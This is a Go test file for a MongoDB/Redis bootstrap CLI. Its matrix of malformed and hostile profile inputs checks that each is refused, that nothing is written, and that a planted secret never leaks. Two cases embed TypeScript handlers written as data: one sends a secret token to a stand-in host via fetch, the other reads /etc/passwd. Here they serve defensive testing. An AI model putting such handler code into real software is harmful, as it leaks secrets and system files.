package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/srvthreds/bootstrap/internal/harness"
)

// badSecret is a secret every bad-input case carries in its environment;
// no output may contain it.
const badSecret = "S3cr3t-Pa55w0rd"

// badCase is one hostile input: a profile (files under a profile "a"),
// extra arguments, and what the run must answer.
type badCase struct {
	name  string
	files map[string]string // relative to the profiles dir
	args  []string          // after "run -p a" and the connection flags
	code  int
	want  string // in the error output: file:line:col, or the flag
}

func nestJSON(levels int) string {
	return strings.Repeat(`{"a":`, levels) + "1" + strings.Repeat("}", levels)
}

const docsYAML = "database: bt\nsteps:\n  - documents: {collection: Items, dir: data}\n"

func badCases() []badCase {
	profile := func(extra map[string]string) map[string]string {
		m := map[string]string{"a/profile.yaml": docsYAML}
		for k, v := range extra {
			m[k] = v
		}
		return m
	}
	return []badCase{
		{"document_nested_101_levels", profile(map[string]string{"a/data/d.json": `[{"_id": 1, "x": ` + nestJSON(100) + `}]`}), nil, exitInvalid, "a/data/d.json:1:"},
		{"config_nested_100_levels", map[string]string{"a/run-config/c.json": nestJSON(100)}, nil, exitInvalid, "a/run-config/c.json:1:"},
		{"json_nested_300_levels", map[string]string{"a/patterns/p.json": `{"id": "p", "x": ` + nestJSON(300) + `}`}, nil, exitInvalid, "a/patterns/p.json:1:"},
		{"nul_in_key", map[string]string{"a/patterns/p.json": "{\n  \"id\": \"p\",\n  \"m\": {\"a\\u0000b\": 1}\n}"}, nil, exitInvalid, "a/patterns/p.json:3:"},
		{"pattern_with_underscore_id", map[string]string{"a/patterns/p.json": "{\n  \"id\": \"p\",\n  \"_id\": \"q\"\n}"}, nil, exitInvalid, "a/patterns/p.json:3:"},
		{"pattern_without_id", map[string]string{"a/patterns/p.json": `{"name": "p"}`}, nil, exitInvalid, "a/patterns/p.json"},
		{"invalid_utf8_json", map[string]string{"a/run-config/c.json": "{\n  \"name\": \"caf\xe9\"\n}"}, nil, exitInvalid, "a/run-config/c.json:2:"},
		{"duplicate_json_key", profile(map[string]string{"a/data/d.json": "{\n  \"_id\": 1,\n  \"v\": {\"x\": 1, \"x\": 2}\n}"}), nil, exitInvalid, "a/data/d.json:3:"},
		{"top_level_dollar_key", profile(map[string]string{"a/data/d.json": `[{"_id": 1, "$set": {"a": 1}}]`}), nil, exitInvalid, "a/data/d.json:1:13"},
		{"array_id", profile(map[string]string{"a/data/d.json": `{"_id": [1]}`}), nil, exitInvalid, "a/data/d.json:1:"},
		{"duplicate_ids", profile(map[string]string{"a/data/d.json": "[{\"_id\": 1},\n {\"_id\": 1}]"}), nil, exitInvalid, "a/data/d.json:2:"},
		{"malformed_json", profile(map[string]string{"a/data/d.json": "[{\"_id\": 1},\n {\"_id\": }]"}), nil, exitInvalid, "a/data/d.json:2:"},
		{"unknown_step_field", map[string]string{"a/profile.yaml": "steps:\n  - configs: {dir: c, colour: red}\n", "a/c/x.json": "{}"}, nil, exitInvalid, "a/profile.yaml:2:"},
		{"unknown_step_kind", map[string]string{"a/profile.yaml": "steps:\n  - sql: {file: x.sql}\n"}, nil, exitInvalid, "a/profile.yaml:2:"},
		{"missing_file", map[string]string{"a/profile.yaml": "steps:\n  - users: {file: nope.yaml}\n"}, nil, exitInvalid, "a/profile.yaml:2:"},
		{"path_out_of_the_profile", map[string]string{"a/profile.yaml": "steps:\n  - configs: {dir: ../b}\n", "b/x.json": "{}"}, nil, exitInvalid, "a/profile.yaml:2:"},
		{"unknown_requires", map[string]string{"a/profile.yaml": "requires: [ghost]\nsteps: []\n"}, nil, exitInvalid, "a/profile.yaml:1:"},
		{"cyclic_requires", map[string]string{"a/profile.yaml": "requires: [b]\nsteps: []\n", "b/profile.yaml": "requires: [a]\nsteps: []\n"}, nil, exitInvalid, "cycle"},
		{"user_without_password", map[string]string{"a/profile.yaml": "steps:\n  - users: {file: u.yaml}\n", "a/u.yaml": "- {id: ada}\n"}, nil, exitInvalid, "a/u.yaml:1:"},
		{"user_with_a_password_like_field", map[string]string{"a/profile.yaml": "steps:\n  - users: {file: u.yaml}\n", "a/u.yaml": "- {id: ada, password: x, passwd: " + badSecret + "}\n"}, nil, exitInvalid, "a/u.yaml:1:"},
		{"yaml_invalid_utf8", map[string]string{"a/profile.yaml": "database: nr\nsteps:\n  - exec: {command: [\"caf\xe9\"]}\n"}, nil, exitInvalid, "a/profile.yaml:3:"},
		{"yaml_control_character", map[string]string{"a/profile.yaml": "database: nr\n\x01\n"}, nil, exitInvalid, "a/profile.yaml:2:1"},
		{"reserved_reset_glob", map[string]string{"a/profile.yaml": "reset: {redis: [\"b*\"]}\nsteps: []\n"}, nil, exitInvalid, "a/profile.yaml:1:"},
		{"reserved_collection", profile(map[string]string{"a/profile.yaml": "steps:\n  - documents: {collection: bootstrap_markers, dir: data}\n", "a/data/d.json": `{"_id": "a"}`}), nil, exitInvalid, "a/profile.yaml:2:"},
		{"reserved_redis_key", map[string]string{"a/profile.yaml": "steps:\n  - redis: {file: r.yaml}\n", "a/r.yaml": "- {key: \"bootstrap:lock:{bootstrap}:fence\", string: \"1\"}\n"}, nil, exitInvalid, "a/r.yaml:1:"},
		{"handler_fetch", map[string]string{"a/run-config/c.json": "{}", "a/Handler.ts": "export default class H {\n  async run() {\n    await fetch('http://x/?token=" + badSecret + "');\n  }\n  async cleanup() {}\n}\n"}, nil, exitInvalid, "a/Handler.ts:3:"},
		{"handler_other_import", map[string]string{"a/run-config/c.json": "{}", "a/Handler.ts": "import * as fs from 'fs';\nexport default class H {\n  async run() { fs.readFileSync('/etc/passwd'); }\n  async cleanup() {}\n}\n"}, nil, exitInvalid, "a/Handler.ts:3:"},
		{"handler_endless_loop", map[string]string{"a/run-config/c.json": "{}", "a/Handler.ts": "export default class H {\n  async run() {\n    for (;;) {}\n  }\n  async cleanup() {}\n}\n"}, nil, exitInvalid, "a/Handler.ts"},
		{"upsert_with_an_empty_matcher", map[string]string{"a/profile.yaml": "steps:\n  - upsert: {collection: T, file: t.json}\n", "a/t.json": `[{"matcher": {}, "values": {"a": 1}}]`}, nil, exitInvalid, "a/t.json:1:"},
		{"file_over_max_file_size", profile(map[string]string{"a/data/d.json": `[{"_id": "` + strings.Repeat("x", 3000) + `"}]`}), []string{"--max-file-size", "1KiB"}, exitInvalid, "--max-file-size"},
		{"too_many_documents", profile(map[string]string{"a/data/d.json": `[{"_id": 1}, {"_id": 2}, {"_id": 3}]`}), []string{"--max-documents", "2"}, exitInvalid, "--max-documents"},
		{"stall_timeout_3ns", profile(map[string]string{"a/data/d.json": `{"_id": 1}`}), []string{"--stall-timeout", "3ns"}, exitUsage, "--stall-timeout"},
		{"batch_size_0", profile(map[string]string{"a/data/d.json": `{"_id": 1}`}), []string{"--batch-size", "0"}, exitUsage, "--batch-size"},
		{"lock_ttl_10ms", profile(map[string]string{"a/data/d.json": `{"_id": 1}`}), []string{"--lock-ttl", "10ms"}, exitUsage, "--lock-ttl"},
		{"negative_limit", profile(map[string]string{"a/data/d.json": `{"_id": 1}`}), []string{"--max-documents", "-1"}, exitUsage, "--max-documents"},
		{"malformed_mongo_uri_with_a_password", profile(map[string]string{"a/data/d.json": `{"_id": 1}`}), []string{"--mongo-uri", "mongodb://admin:" + badSecret + "/x+@mongo:27017/nr"}, exitUsage, "mongo"},
		{"unknown_flag", profile(map[string]string{"a/data/d.json": `{"_id": 1}`}), []string{"--colour"}, exitUsage, "--colour"},
		{"unknown_profile", map[string]string{"b/profile.yaml": docsYAML, "b/data/d.json": `{"_id": 1}`}, nil, exitInvalid, "did you mean b?"},
		{"profiles_dir_without_profiles", map[string]string{"profiles.go": "package profiles\n"}, nil, exitUsage, "holds no profile"},
		{"health_addr_not_an_address", profile(map[string]string{"a/data/d.json": `{"_id": 1}`}), []string{"--health-addr", "nowhere:no-port"}, exitUsage, "--health-addr"},
		{"cluster_and_sentinel", profile(map[string]string{"a/data/d.json": `{"_id": 1}`}), []string{"--redis-cluster", "--redis-sentinel-master", "m"}, exitUsage, "--redis-cluster"},
	}
}

// TestBadInput_matrix: every hostile input is refused with its exit code and
// a message naming the file:line:col or the flag; nothing is written to
// MongoDB or Redis; and no output carries the secret of the environment.
func TestBadInput_matrix(t *testing.T) {
	t.Parallel()
	env := harness.Start(t)
	mc, rc := env.Mongo.Client(t), env.Redis.Client(t)
	for _, tc := range badCases() {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			for name, body := range tc.files {
				path := filepath.Join(dir, filepath.FromSlash(name))
				if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(path, []byte(body), 0o600); err != nil {
					t.Fatal(err)
				}
			}
			args := []string{"run", "-p", "a", "--profiles-dir", dir, "--health-addr", "off",
				"--mongo-uri", env.Mongo.URI, "--redis-url", "redis://" + env.Redis.Addr, "--connect-timeout", "5s"}
			getenv := envOf("ADMIN_PW", badSecret, "BOOTSTRAP_TERMINATION_LOG", "")
			code, stdout, stderr := runCLI(t, getenv, append(args, tc.args...)...)
			if code != tc.code {
				t.Errorf("exit = %d, want %d; stderr:\n%s", code, tc.code, stderr)
			}
			if !strings.Contains(stderr+stdout, tc.want) {
				t.Errorf("output does not name %q:\n%s%s", tc.want, stdout, stderr)
			}
			if strings.Contains(stdout+stderr, badSecret) {
				t.Errorf("the secret reached the output:\n%s%s", stdout, stderr)
			}
		})
	}
	if dbs := userDatabases(t, mc); len(dbs) != 0 {
		t.Errorf("databases after the bad inputs: %v, want none", dbs)
	}
	if n, err := rc.DBSize(t.Context()).Result(); err != nil || n != 0 {
		t.Errorf("redis keys after the bad inputs: %d (%v), want none", n, err)
	}
}
